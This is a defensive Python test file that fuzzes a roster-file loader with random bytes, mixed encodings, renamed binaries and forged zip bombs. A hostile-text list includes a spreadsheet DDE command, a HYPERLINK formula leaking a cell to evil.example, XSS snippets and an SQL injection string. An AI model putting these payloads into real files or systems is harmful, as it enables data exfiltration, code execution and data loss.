"""Hostile and broken roster files: a clear message or a correct load, never more.

Property-based (hypothesis) tests feed :func:`loaders.roster.read_roster` random
bytes, random text in random encodings, formulas / HTML / Markdown in every text
field; deterministic tests add the large cases (huge cells, many empty rows,
binaries renamed .csv/.xlsx, zip bombs renamed .xlsx), each read in a child
process whose peak memory (``ru_maxrss``) is measured.

Outcome checked everywhere: :class:`~loaders.roster.RosterFileError` (a
``ValueError`` whose message names the file) or a load whose every non-blank row
is in ``rows`` or ``rejected``; never another exception; peak memory within
:data:`MEMORY_BUDGET`; nothing half-written to the workspace when a save fails.

Example counts: ``HYPOTHESIS_PROFILE=long`` runs 20x the default examples
(``pytest tests/test_hostile_input.py --hypothesis-show-statistics`` prints
how many ran).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import struct
import subprocess
import sys
import textwrap
import tomllib
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from loaders import exports
from loaders.roster import (
    MAX_BYTES,
    MAX_XLSX_UNPACKED,
    ROSTER_COLUMNS,
    RosterFileError,
    RosterLoad,
    read_roster,
)
from loaders.vocab import clean_text

ROOT = Path(__file__).resolve().parent.parent
SCALE = {"long": 20, "ci": 1}.get(os.environ.get("HYPOTHESIS_PROFILE", "ci"), 1)
HEADER = ["District", "County", "Role", "Status", "Event", "Name", "Email"]
NAMES = ["x.csv", "x.xlsx", "x.tsv", "x.txt", "roster"]
#: Peak memory a hostile file may cost above the reader's baseline, in bytes:
#: 16x the file plus 160 MB (a legitimate 25 MB roster stays near 12x).
MEMORY_FACTOR, MEMORY_BASE = 16, 160 * 1024 * 1024
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "**bold** _it_ [link](http://evil.example) ![i](http://evil.example/i.png)",
    "$x^2$ `code` # heading",
    "'; DROP TABLE rosters; --",
    "\u202eRTL override\u202c",
    "zero\u200bwidth",
]


def _examples(n: int) -> settings:
    return settings(
        max_examples=n * SCALE,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# --------------------------------------------------------------------- helpers
def _check_outcome(data: bytes, name: str) -> RosterLoad | None:
    """Read; a RosterFileError naming the file, or a load whose rows add up."""
    try:
        load = read_roster(data, filename=name)
    except RosterFileError as exc:
        assert isinstance(exc, ValueError)
        assert str(exc).startswith(f"{name}: "), str(exc)
        assert "Traceback" not in str(exc)
        return None
    assert isinstance(load, RosterLoad)
    assert list(load.rows.columns[: len(ROSTER_COLUMNS)]) == ROSTER_COLUMNS
    for col in ROSTER_COLUMNS:
        assert pd.api.types.is_string_dtype(load.rows[col].dtype), col
    kept = load.rows["source_row"].dropna().astype(int).tolist()
    rejected = [int(r) for r in load.rejected["row"]]
    assert len(set(kept)) == len(kept)
    assert not set(kept) & set(rejected)
    assert all(r > load.header_row for r in kept + rejected)
    return load


def _csv_bytes(rows: list[list[str]], encoding: str, delimiter: str = ",") -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def _peak_memory(tmp_path: Path, data: bytes, name: str) -> dict:
    """Read ``data`` in a fresh interpreter; outcome and peak RSS above baseline."""
    path = tmp_path / f"input-{len(data)}.bin"
    path.write_bytes(data)
    code = textwrap.dedent(
        """
        import json, resource, sys
        sys.path.insert(0, sys.argv[1])
        from loaders.roster import read_roster, RosterFileError
        import openpyxl  # noqa: F401 - in the baseline, as in the running app
        data = open(sys.argv[2], "rb").read()
        base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        out = {}
        try:
            load = read_roster(data, filename=sys.argv[3])
            out.update(outcome="load", rows=len(load.rows),
                       rejected=len(load.rejected), notes=load.notes)
        except RosterFileError as exc:
            out.update(outcome="RosterFileError", message=str(exc))
        except BaseException as exc:
            out.update(outcome=type(exc).__name__, message=str(exc)[:300])
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        out["extra_bytes"] = (peak - base) * 1024
        print(json.dumps(out))
        """
    )
    proc = subprocess.run(
        [sys.executable, "-c", code, str(ROOT), str(path), name],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PYTHONHASHSEED": "0"},
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    out["budget"] = MEMORY_FACTOR * len(data) + MEMORY_BASE
    return out


def _assert_bounded(out: dict) -> None:
    assert out["outcome"] in ("load", "RosterFileError"), out
    assert out["extra_bytes"] <= out["budget"], (
        f"peak {out['extra_bytes'] / 2**20:.0f} MB above baseline, budget "
        f"{out['budget'] / 2**20:.0f} MB: {out}"
    )


# ------------------------------------------------------------ xlsx builders
_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxml'
    'formats.org/package/2006/content-types"><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension'
    '="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
    '.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="appli'
    'cation/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocu"
    'ment" Target="xl/workbook.xml"/></Relationships>'
)
_WB = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxml'
    'formats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org'
    '/officeDocument/2006/relationships"><sheets><sheet name="Roster" sheetId="1" '
    'r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    '" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxml'
    'formats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>District</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>Role</t></is></c></row>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _row_xml(r: int, name: str = "Alameda Unified", extra: str = "") -> str:
    return (
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{name}</t></is></c>'
        f'<c r="B{r}" t="inlineStr"><is><t>Superintendent</t></is></c>{extra}</row>'
    )


def _xlsx_raw(sheet_chunks, compresslevel: int = 9) -> bytes:
    """A minimal workbook whose sheet1.xml is written from ``sheet_chunks``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(
        buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel
    ) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for chunk in sheet_chunks:
                part.write(chunk.encode() if isinstance(chunk, str) else chunk)
    return buf.getvalue()


def _set_declared_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the central-directory uncompressed size of one zip member."""
    out = bytearray(data)
    pos = out.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", out, pos + 28)[0]
        name = bytes(out[pos + 46 : pos + 46 + name_len]).decode()
        if name == member:
            struct.pack_into("<I", out, pos + 24, size)
            return bytes(out)
        pos = out.find(b"PK\x01\x02", pos + 4)
    raise AssertionError(member)


def _openpyxl_bytes(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Roster"
    for row in rows:
        sheet.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


# ======================================================= property-based tests
@_examples(300)
@given(data=st.binary(max_size=4096), name=st.sampled_from(NAMES))
def test_random_bytes_give_a_message_or_a_load(data, name):
    _check_outcome(data, name)


_MAGIC = [
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"%PDF-1.7\n",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xfe\xff",
    b"\x89PNG\r\n\x1a\n",
    b"\x1f\x8b\x08",
    b"<html>",
    b"District,Role\n",
    b"District\tRole\r\n",
]


@_examples(300)
@given(
    magic=st.sampled_from(_MAGIC),
    body=st.binary(max_size=2048),
    name=st.sampled_from(NAMES),
)
def test_random_bytes_behind_known_signatures(magic, body, name):
    _check_outcome(magic + body, name)


_ANY_CODEC = [
    "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252",
    "latin-1", "mac_roman", "cp437", "koi8-r", "shift_jis", "gb18030", "utf-7",
]  # fmt: skip


@_examples(200)
@given(
    header=st.lists(
        st.one_of(st.text(max_size=15), st.sampled_from(HEADER)), min_size=1, max_size=6
    ),
    body=st.lists(st.lists(st.text(max_size=25), max_size=6), max_size=8),
    codec=st.sampled_from(_ANY_CODEC),
    name=st.sampled_from(NAMES),
)
def test_random_text_in_random_encodings(header, body, codec, name):
    text = "\n".join(",".join(row) for row in [header, *body])
    _check_outcome(text.encode(codec, errors="replace"), name)


# Text people type, plus everything that breaks parsers, spreadsheets or HTML.
# (No "Ã", "Â", "Å": the reader deliberately repairs mojibake built from them.)
_ALPHABET = st.characters(
    codec="utf-8",
    exclude_categories=("Cs",),
    exclude_characters="ÃÂÅ\x00",
)
_FIELD = st.one_of(
    st.text(_ALPHABET, max_size=40),
    st.sampled_from(HOSTILE_TEXT),
    st.text(st.sampled_from("=+-@\t\r\n,;|\"'<>&*_[]()#`$ ñéü–’"), max_size=20),
)
_ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "windows-1252", "latin-1"]


@_examples(150)
@given(
    fields=st.lists(st.lists(_FIELD, min_size=7, max_size=7), min_size=1, max_size=12),
    encoding=st.sampled_from(_ENCODINGS),
    delimiter=st.sampled_from([",", "\t", ";"]),
)
def test_hostile_text_in_every_field_loads_and_round_trips(fields, encoding, delimiter):
    """Formulas, HTML, Markdown, quotes and line breaks in every text field."""
    rows = [
        [f"{f[0]} #{i}", *f[1:]]  # entity names stay distinct: no merged rows
        for i, f in enumerate(fields)
    ]
    try:
        data = _csv_bytes([HEADER, *rows], encoding, delimiter)
    except UnicodeEncodeError:
        assume(False)
    name = "hostile.tsv" if delimiter == "\t" else "hostile.csv"
    load = _check_outcome(data, name)
    assert load is not None, "a file with a proper header must load"
    # every data row is kept, merged into a duplicate (same person and event,
    # with a note) or rejected with a reason; rows here are never blank
    kept = load.rows["source_row"].astype(int).tolist()
    assert _accounted(load) == list(range(2, len(rows) + 2))
    # text survives as typed (whitespace cleaned), when the encoding is not
    # itself ambiguous (bytes that are also valid UTF-8 are read as UTF-8)
    ambiguous = encoding in ("windows-1252", "latin-1") and _is_utf8(data)
    if load.delimiter == delimiter and not ambiguous:
        by_row = dict(zip(kept, load.rows["entity_name"], strict=True))
        for i, row in enumerate(rows, start=2):
            if i in by_row:
                assert by_row[i] == clean_text(row[0])
    _assert_exports_are_formula_safe(load.rows)


def _accounted(load: RosterLoad) -> list[int]:
    """Sorted file rows found in rows, rejected or merged (each exactly once)."""
    found = [
        *load.rows["source_row"].astype(int),
        *load.rejected["row"].astype(int),
        *getattr(load, "merged_into", {}),
    ]
    assert len(found) == len(set(found)), found
    return sorted(found)


def _is_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def _assert_exports_are_formula_safe(rows: pd.DataFrame) -> None:
    table = exports.table_csv_bytes(rows, include_contacts=True).decode("utf-8-sig")
    for record in csv.reader(io.StringIO(table, newline="")):
        for cell in record:
            assert not cell.startswith(exports.FORMULA_PREFIXES), cell
    book = openpyxl.load_workbook(
        io.BytesIO(exports.tables_xlsx_bytes({"rows": rows}, include_contacts=True))
    )
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


@_examples(60)
@given(
    fields=st.lists(st.lists(_FIELD, min_size=7, max_size=7), min_size=1, max_size=8)
)
def test_hostile_text_in_xlsx_cells(fields):
    """The same text typed into an XLSX (strings, never formulas)."""
    rows = [[f"{f[0]} #{i}", *f[1:]] for i, f in enumerate(fields)]
    clean = [[_xlsx_safe(v) for v in row] for row in rows]
    load = _check_outcome(_openpyxl_bytes([HEADER, *clean]), "hostile.xlsx")
    assert load is not None
    assert _accounted(load) == list(range(2, len(rows) + 2))
    _assert_exports_are_formula_safe(load.rows)


_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _xlsx_safe(text: str) -> str:
    # openpyxl refuses XML-illegal characters; a leading "=" would be a formula
    return "'" + _XML_ILLEGAL.sub("", text)


# ================================================================ large cases
def test_huge_cell_loads_and_too_huge_cell_is_a_clear_message(tmp_path):
    ok = b'District,Role,Note\nAlameda Unified,Superintendent,"' + b"x" * 1_000_000
    out = _peak_memory(tmp_path, ok + b'"\n', "huge.csv")
    _assert_bounded(out)
    assert out["outcome"] == "load" and out["rows"] == 1, out
    big = b'District,Role\n"' + b"x" * (5 * 1024 * 1024) + b'",Superintendent\n'
    out = _peak_memory(tmp_path, big, "huge.csv")
    _assert_bounded(out)
    assert out["outcome"] == "RosterFileError", out
    assert "field larger than field limit" in out["message"]


def test_huge_xlsx_cell(tmp_path):
    data = _openpyxl_bytes(
        [
            ["District", "Role", "Note"],
            ["Alameda Unified", "Superintendent", "y" * 2_000_000],
        ]
    )
    out = _peak_memory(tmp_path, data, "huge.xlsx")
    _assert_bounded(out)
    assert out["outcome"] == "load" and out["rows"] == 1, out


def test_a_million_trailing_empty_rows(tmp_path):
    data = b"District,Role\nAlameda Unified,Superintendent\n" + b",\r\n" * 1_000_000
    out = _peak_memory(tmp_path, data, "empty-rows.csv")
    _assert_bounded(out)
    assert out["outcome"] == "load" and out["rows"] == 1, out


def test_millions_of_empty_lines_within_the_upload_limit(tmp_path):
    data = b"District,Role\nAlameda Unified,Superintendent\n" + b"\n" * 8_000_000
    out = _peak_memory(tmp_path, data, "empty-lines.csv")
    _assert_bounded(out)


def test_many_empty_rows_between_header_and_data(tmp_path):
    data = b"District,Role\n" + b"\n" * 300_000 + b"Alameda Unified,Superintendent\n"
    out = _peak_memory(tmp_path, data, "gap.csv")
    _assert_bounded(out)
    # either read (the blank rows skipped) or refused with the row limit
    assert out["outcome"] == "RosterFileError" or out["rows"] == 1, out


def test_xlsx_row_after_a_long_gap_is_not_dropped_silently():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["District", "Role"])
    sheet.append(["Alameda Unified", "Superintendent"])
    sheet.cell(row=1_048_576, column=1, value="San Diego Unified")
    sheet.cell(row=1_048_576, column=2, value="Superintendent")
    buf = io.BytesIO()
    book.save(buf)
    try:
        load = read_roster(buf.getvalue(), filename="far.xlsx")
    except RosterFileError:
        return  # refusing the file is a fine outcome
    assert "San Diego Unified" in load.rows["entity_name"].tolist() or any(
        "1048576" in n or "1,048,576" in n for n in load.notes
    )


def test_sparse_wide_xlsx_is_refused_with_bounded_memory(tmp_path):
    data = _xlsx_raw(
        [
            _SHEET_HEAD,
            *(_row_xml(r, extra=f'<c r="XFD{r}"><v>1</v></c>') for r in range(2, 5002)),
            _SHEET_TAIL,
        ]
    )
    assert len(data) < 100_000
    out = _peak_memory(tmp_path, data, "wide.xlsx")
    _assert_bounded(out)


# ============================================================ binaries renamed
def _zip_of(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in files.items():
            z.writestr(name, body)
    return buf.getvalue()


BINARIES = {
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
    "pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(range(256)),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8,
    "zip-of-text": _zip_of({"roster.csv": b"District,Role\nAlameda Unified,Supt\n"}),
    "ods": _zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
    "truncated-xlsx": _openpyxl_bytes([["District", "Role"], ["Alameda", "Supt"]])[
        :700
    ],
    "xlsx-garbage-sheet": _xlsx_raw(["<worksheet><sheetData><row r="]),
    "html": b"<!DOCTYPE html><html><body><table><tr><td>District</td></tr></table>",
    "utf16-garbage": b"\xff\xfe" + b"\x00\xd8" * 50,
}


@pytest.mark.parametrize("kind", sorted(BINARIES))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_binary_files_renamed_to_a_roster_name(kind, suffix):
    name = f"{kind}{suffix}"
    with pytest.raises(RosterFileError) as info:
        read_roster(BINARIES[kind], filename=name)
    message = str(info.value)
    assert message.startswith(f"{name}: ") and len(message) < 600, message


def test_own_interpreter_renamed_xlsx_is_refused(tmp_path):
    data = Path(sys.executable).resolve().read_bytes()[:2_000_000]
    with pytest.raises(RosterFileError, match="binary file|not a"):
        read_roster(data, filename="python.xlsx")


# ================================================================= zip bombs
def test_zip_bomb_declared_huge_is_refused_unopened(tmp_path):
    small = _xlsx_raw([_SHEET_HEAD, _row_xml(2), _SHEET_TAIL])
    bomb = _set_declared_size(small, "xl/worksheets/sheet1.xml", 0xF000_0000)
    assert len(bomb) < 5_000
    out = _peak_memory(tmp_path, bomb, "bomb.xlsx")
    _assert_bounded(out)
    assert out["outcome"] == "RosterFileError", out
    assert "would unpack to" in out["message"]


def test_zip_bomb_real_content_is_refused_unopened(tmp_path):
    """A sheet that really inflates to 600 MB, in a file of well under 1 MB."""
    chunk = " " * (1 << 20)
    size = MAX_XLSX_UNPACKED // (1 << 20) + 200
    bomb = _xlsx_raw([_SHEET_HEAD, *([chunk] * size), _SHEET_TAIL], compresslevel=1)
    assert len(bomb) < 4 * 1024 * 1024
    out = _peak_memory(tmp_path, bomb, "bomb.xlsx")
    _assert_bounded(out)
    assert out["outcome"] == "RosterFileError", out
    assert "would unpack to" in out["message"]


def test_zip_lying_small_is_a_clear_message(tmp_path):
    """Declared 1 KB, really 60 MB: zipfile stops at the declared size."""
    chunk = " " * (1 << 20)
    real = _xlsx_raw([_SHEET_HEAD, *([chunk] * 60), _row_xml(2), _SHEET_TAIL])
    liar = _set_declared_size(real, "xl/worksheets/sheet1.xml", 1024)
    out = _peak_memory(tmp_path, liar, "liar.xlsx")
    _assert_bounded(out)
    assert out["outcome"] == "RosterFileError", out


def test_inflating_just_under_the_guard_stays_bounded(tmp_path):
    """45 MB of whitespace around one data row: read by streaming."""
    chunk = " " * (1 << 20)
    data = _xlsx_raw([_SHEET_HEAD, *([chunk] * 45), _row_xml(2), _SHEET_TAIL])
    out = _peak_memory(tmp_path, data, "under.xlsx")
    _assert_bounded(out)
    assert out["outcome"] == "load" and out["rows"] == 1, out


# ================================================================ upload size
def test_upload_limit_is_one_figure_everywhere():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    mb = config["server"]["maxUploadSize"]  # Streamlit: MiB (x 1024 x 1024)
    assert mb * 1024 * 1024 == MAX_BYTES
    page = (ROOT / "dashboard" / "datapage" / "upload.py").read_text()
    assert f"Files up to {mb} MB" in page
    # the reader refuses one byte more than the figure, naming it in MB
    with pytest.raises(RosterFileError, match=rf"the limit is {mb} MB"):
        read_roster(b"District\n" + b"a" * (mb * 1024 * 1024), filename="big.csv")
    assert len(read_roster(b"District\nFresno Unified\n").rows) == 1
    deployment = ROOT / "docs" / "DEPLOYMENT.md"
    if deployment.exists():
        assert f"maxUploadSize = {mb}" in deployment.read_text()


def test_over_the_limit_is_refused_before_reading():
    with pytest.raises(RosterFileError, match=r"limit is 25 MB"):
        read_roster(b"District,Role\n" + b"a" * MAX_BYTES, filename="big.csv")


# ====================================================== nothing half-written
def test_failed_save_leaves_the_workspace_as_it_was(workspace_dir, monkeypatch):
    from loaders import workspace as W

    ws = W.open_workspace()
    try:
        good = read_roster(
            b"District,Role\nAlameda Unified,Superintendent\n", filename="good.csv"
        )
        ws.save_roster("good", b"good", "good.csv", good.rows)
        before = (ws.revision(), ws.list_rosters().to_dict("list"), _files(ws))

        def boom(*_a, **_k):
            raise RuntimeError("disk gone mid-save")

        # the last statement of the save transaction fails
        monkeypatch.setattr(W.Workspace, "_upsert", staticmethod(boom))
        hostile = read_roster(
            _csv_bytes([HEADER, *[[t] * 7 for t in HOSTILE_TEXT]], "utf-8"),
            filename="hostile.csv",
        )
        with pytest.raises(RuntimeError):
            ws.save_roster(
                "hostile",
                b"new file bytes",
                "hostile.csv",
                hostile.rows,
                hostile.rejected,
                {"column_map": hostile.column_map, "layout_signature": "sig"},
            )
        monkeypatch.undo()
        after = (ws.revision(), ws.list_rosters().to_dict("list"), _files(ws))
        assert after == before
        assert ws.integrity_check() == "ok"
        # and the hostile text saves and reads back exactly once the disk is back
        rid = ws.save_roster("hostile", b"new file bytes", "hostile.csv", hostile.rows)
        rows, _, _ = ws.load_roster(rid)
        assert rows["entity_name"].tolist() == hostile.rows["entity_name"].tolist()
    finally:
        ws.close()


def _files(ws) -> list[str]:
    from sqlalchemy import text

    with ws._read() as conn:
        return sorted(r[0] for r in conn.execute(text("SELECT sha256 FROM files")))


def test_data_page_shows_a_message_for_a_hostile_upload(workspace_dir):
    """The page's upload path: st.error with the loader's message, no traceback,
    nothing saved."""
    from streamlit.testing.v1 import AppTest

    from loaders.workspace import open_workspace

    page = str(ROOT / "dashboard" / "views" / "data.py")
    ws = open_workspace()
    revision = ws.revision()
    try:
        for name, data in [
            (
                "bomb.xlsx",
                _set_declared_size(
                    _xlsx_raw([_SHEET_HEAD, _row_xml(2), _SHEET_TAIL]),
                    "xl/worksheets/sheet1.xml",
                    0xF000_0000,
                ),
            ),
            ("photo.csv", BINARIES["png"]),
            ("python.xlsx", BINARIES["elf"]),
        ]:
            at = AppTest.from_file(page, default_timeout=120)
            at.session_state["data_upload_inject"] = {"name": name, "data": data}
            at.run()
            assert not at.exception, at.exception
            errors = [e.value for e in at.error]
            assert len(errors) == 1 and errors[0].startswith(f"{name}: "), errors
            assert "Traceback" not in errors[0]
            assert not any(b.key == "data_save" for b in at.button)
        assert ws.revision() == revision and ws.list_rosters().empty
    finally:
        ws.close()
